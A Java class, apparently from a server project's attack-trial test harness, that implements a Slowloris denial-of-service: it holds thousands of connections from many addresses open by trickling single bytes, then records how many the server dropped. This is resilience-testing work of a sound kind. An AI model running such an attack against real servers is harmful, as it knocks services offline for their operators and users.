package parley.attack.door;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import parley.attack.horde.Horde;
import parley.attack.horde.Member;
import parley.attack.trial.Attack;
import parley.attack.trial.Scene;

/** Opens fifteen thousand connections, from a hundred and fifty addresses, and sends on each a byte at a time that ends no line. */
public final class SlowLoris implements Attack {
    private static final int FROM_EACH = 100;
    private static final Duration STEP = Duration.ofSeconds(2);

    private final int connections;

    public SlowLoris(int connections) {
        this.connections = connections;
    }

    @Override
    public void make(Scene scene) throws IOException {
        long end = System.nanoTime() + scene.time().toNanos();
        try (Horde crowd = scene.crowd(FROM_EACH)) {
            List<Member> there = new ArrayList<>(crowd.connect(scene.size().of(connections)));
            while (System.nanoTime() < end) {
                there.forEach(member -> member.send("x".getBytes(US_ASCII)));
                crowd.during(STEP);
            }
            scene.notes().add(there.size(), "connections");
            scene.notes().add(there.stream().filter(Member::isOver).count(), "of them closed meanwhile");
        }
    }
}
